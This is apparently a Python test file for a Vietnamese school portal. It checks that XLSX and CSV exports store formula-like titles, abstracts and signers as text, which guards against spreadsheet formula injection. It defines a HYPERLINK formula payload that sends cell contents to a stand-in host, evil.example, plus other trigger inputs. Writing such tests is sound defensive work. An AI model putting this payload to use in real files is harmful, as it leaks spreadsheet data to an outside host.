"""Issue 9, hole 8 (first point): exports never write a cell a spreadsheet would run as a formula.

A school editor controls document titles, abstracts and signers; a visitor downloads the export and opens
it in Excel. A title like ``=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`` must arrive as text.
Every export goes through ``portal.text.spreadsheets`` (XLSX: string cells; CSV: a leading ``'``).
"""

import csv
import datetime
import io

from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from documents.models import DocumentIndexPage, LegalDocumentPage
from portal.yearbook.tabular import to_csv, to_xlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def add_document(title, **fields):
    index = DocumentIndexPage.objects.get(section_key="van-ban")
    page = LegalDocumentPage(
        title=title, number="15/KH-THCSCVA", issue_date=datetime.date(2025, 9, 5), slug="", **fields
    )
    page._parent_hint = index
    page.full_clean(exclude=["path", "depth"])
    index.add_child(instance=page)
    page.save_revision().publish()
    return page


def test_document_export_writes_formula_like_text_as_string_cells(school_a, portal_client):
    with tenant_context(school_a):
        add_document(PAYLOAD, abstract="+SUM(1;2)", signer="@Nguyễn Văn A")
    response = portal_client(school_a).get("/van-ban/xuat-excel/")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active  # formulas kept as formulas, not values
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    for column, text in (("Trích yếu", PAYLOAD), ("Tóm tắt nội dung", "+SUM(1;2)"), ("Người ký", "@Nguyễn Văn A")):
        cell = row[header.index(column)]
        assert cell.value == text
        assert cell.data_type == "s", f"{column} was written as a formula"


def test_csv_and_xlsx_exports_of_the_shared_writer_escape_every_trigger():
    lines = [["Năm học", "Ghi chú"], ["2025-2026", PAYLOAD], ["2024-2025", "-1+2"], ["2023-2024", "\t=1"]]
    text = to_csv(lines).decode("utf-8-sig")
    cells = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'" + PAYLOAD, "'-1+2", "'\t=1"]
    sheet = load_workbook(io.BytesIO(to_xlsx(lines, "Niên giám"))).active
    assert [sheet.cell(row=n, column=2).data_type for n in (2, 3, 4)] == ["s", "s", "s"]
